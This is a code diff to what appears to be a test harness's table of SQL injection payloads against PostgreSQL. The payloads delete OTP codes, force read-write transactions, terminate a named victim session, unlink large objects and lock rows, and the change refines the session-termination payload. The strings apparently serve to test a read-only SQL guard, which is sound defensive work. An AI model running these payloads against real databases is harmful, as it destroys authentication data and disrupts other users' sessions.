@@ -28,8 +28,9 @@ ATTACKS: dict[str, str] = {
                                 f"DELETE FROM otp_codes; {KEYS}"),
     "reset-all": f"RESET ALL; COMMIT; DELETE FROM otp_codes; {KEYS}",
     "begin-read-write": f"COMMIT; BEGIN READ WRITE; DELETE FROM otp_codes; COMMIT; {KEYS}",
-    "terminate-backend": (f"{KEYS} UNION ALL SELECT pid::text FROM pg_stat_activity "
-                          f"WHERE application_name = '{VICTIM}' AND pg_terminate_backend(pid)"),
+    # OFFSET 0 keeps the filter inside: only the victim is signalled (never the run's own session first)
+    "terminate-backend": (f"{KEYS} UNION ALL SELECT pg_terminate_backend(pid)::text FROM (SELECT pid FROM "
+                          f"pg_stat_activity WHERE application_name = '{VICTIM}' OFFSET 0) AS victim"),
     "set-config": f"{KEYS} UNION ALL SELECT set_config('default_transaction_read_only', 'off', false)",
     "large-object": f"{KEYS} UNION ALL SELECT lo_unlink(oid)::text FROM pg_largeobject_metadata",
     "lock-rows": f"{KEYS} FOR UPDATE",
